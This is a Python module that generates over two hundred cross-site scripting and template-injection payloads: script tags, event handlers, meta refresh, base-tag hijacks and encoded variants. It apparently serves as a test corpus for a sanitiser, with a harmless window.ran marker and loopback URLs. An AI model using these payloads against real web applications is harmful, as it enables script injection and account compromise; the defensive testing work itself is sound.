"""Hostile texts: what a source would say to have a browser run something, in more than two hundred ways."""

from collections.abc import Iterator
from itertools import product

RUN = "window.ran=1"

ENDS = ("", '"', "'", "`", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</template>")
"""What might end the place that a text stands in."""

BEGINNINGS = (
    "<script>{0}</script>",
    "<script src=//127.0.0.1:9/x.js></script>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<body onload={0}>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<math><mi//xlink:href='data:x,<script>{0}</script>'>",
    "<style>*{{background:url(//127.0.0.1:9/)}}</style>",
    "<link rel=stylesheet href=//127.0.0.1:9/x.css>",
    "<base href=//127.0.0.1:9/>",
    "<meta http-equiv=refresh content=0;url=javascript:{0}>",
    " onmouseover={0} autofocus onfocus={0} x=",
    " style=animation-name:x onanimationstart={0} ",
)
"""What it might do then."""

ALONE = (
    "{{constructor.constructor('window.ran=1')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${window.ran=1}",
    "javascript:window.ran=1",
    "\u202e<script>window.ran=1</script>",
    "\x00<script>window.ran=1</script>".replace("\x00", "\ufffd"),
    "＜script＞window.ran=1＜/script＞",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "<scr<script>ipt>window.ran=1</script>",
)


def payloads() -> Iterator[str]:
    """Each of them once."""
    for end, beginning in product(ENDS, BEGINNINGS):
        yield end + beginning.format(RUN)
    yield from ALONE


PAYLOADS = tuple(payloads())
